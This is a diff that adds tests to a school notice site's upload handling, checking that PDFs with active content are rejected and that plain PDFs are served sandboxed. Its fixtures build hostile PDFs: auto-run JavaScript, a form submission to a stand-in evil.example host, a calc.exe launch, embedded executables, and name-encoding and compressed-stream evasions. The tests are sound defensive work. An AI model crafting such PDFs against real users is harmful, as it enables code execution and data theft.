@@ -1,8 +1,13 @@
 import { Writable } from 'node:stream';
+import zlib from 'node:zlib';
 import { TRPCError } from '@trpc/server';
 import pino from 'pino';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { LOG_OPTIONS } from '../../src/server/app';
+import { assemblePdf } from '../../src/server/lib/pdf';
+import { PDF_ACTIVE_CONTENT_MESSAGE } from '../../src/shared/schemas/admin-content';
+import { pdfForm } from '../factories/disclosure';
+import { attachFile, createNoticeRow, makePdfBytes } from '../factories/notices';
 import { fieldErrorsOf, makeTestApp, type TestApp } from '../helpers/test-app';
 
 // Defects found by trying the product from outside, each with the test that failed before its fix.
@@ -121,5 +126,65 @@ describe('addresses that name no page', () => {
     // The pages themselves still answer.
     for (const url of ['/notices', '/mandatory-public-disclosure', '/calendar', '/tc-verification', '/about'])
       expect((await t.app.inject({ method: 'GET', url })).statusCode, url).toBe(200);
+  });
+});
+
+/** A one-page PDF whose catalog carries `catalogExtra`, with `more` objects after the page. */
+function pdfWith(catalogExtra: string, more: string[] = []): Buffer {
+  return assemblePdf([
+    `<< /Type /Catalog /Pages 2 0 R${catalogExtra} >>`,
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
+    ...more,
+  ]);
+}
+
+/** An object stream holding `dictionary`, compressed as a PDF writer does. */
+function packed(dictionary: string): string {
+  const body = zlib.deflateSync(Buffer.from(`5 0 ${dictionary}`, 'latin1')).toString('latin1');
+  return `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${body.length} >>\nstream\n${body}\nendstream`;
+}
+
+describe('PDFs that would run something', () => {
+  const ACTIVE = {
+    'JavaScript on opening': pdfWith(' /OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
+    'a form sent to another site': pdfWith(' /OpenAction << /S /SubmitForm /F (https://evil.example/) >>'),
+    'a program launched': pdfWith(' /OpenAction << /S /Launch /F (calc.exe) >>'),
+    'an embedded file': pdfWith(' /Names << /EmbeddedFiles 4 0 R >>', ['<< /Names [(a.exe) 5 0 R] >>']),
+    'a name spelt with #xx': pdfWith(' /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'),
+    'JavaScript inside a compressed object stream': pdfWith(' /OpenAction 5 0 R', [
+      packed('<< /S /JavaScript /JS (this.submitForm("https://evil.example")) >>'),
+    ]),
+  };
+
+  it('are refused beside a notice’s file field (the disclosure’s documents and the brochure take the same check), and nothing is stored', async () => {
+    const notice = createNoticeRow(t.app.svc, { title: 'Scripted attachment' });
+    for (const [what, bytes] of Object.entries(ACTIVE)) {
+      await expect(attachFile(t.app.svc, notice.id, bytes, 'x.pdf'), what).rejects.toThrow(PDF_ACTIVE_CONTENT_MESSAGE);
+    }
+    const form = pdfForm({ id: notice.id }, { name: 'circular.pdf', bytes: ACTIVE['JavaScript on opening'] });
+    expect(await fieldErrorsOf(t.caller(ADMIN).admin.notices.addAttachment(form))).toEqual({
+      file: PDF_ACTIVE_CONTENT_MESSAGE,
+    });
+    const stored = (await t.caller(ADMIN).admin.notices.list()).find((n) => n.id === notice.id);
+    expect(stored?.attachments).toEqual([]);
+  });
+
+  it('are told apart from a plain PDF with a link, which is accepted and served sandboxed', async () => {
+    const notice = createNoticeRow(t.app.svc, { title: 'Plain attachment' });
+    const linked = pdfWith(' /OpenAction [3 0 R /Fit]', [
+      '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://cbse.gov.in/) >> >>',
+    ]);
+    await attachFile(t.app.svc, notice.id, linked, 'linked.pdf');
+    const withFiles = await attachFile(t.app.svc, notice.id, makePdfBytes(), 'timetable.pdf');
+    expect(withFiles.attachments.map((a) => a.name)).toEqual(['linked.pdf', 'timetable.pdf']);
+    const res = await t.app.inject({
+      method: 'GET',
+      url: `/notices/${notice.slug}/files/${withFiles.attachments[1]?.id}`,
+    });
+    expect(res.statusCode).toBe(200);
+    expect(res.headers['content-type']).toBe('application/pdf');
+    expect(res.headers['content-security-policy']).toMatch(/(^|;\s*)sandbox(;|$)/);
+    expect(res.headers['x-content-type-options']).toBe('nosniff');
   });
 });
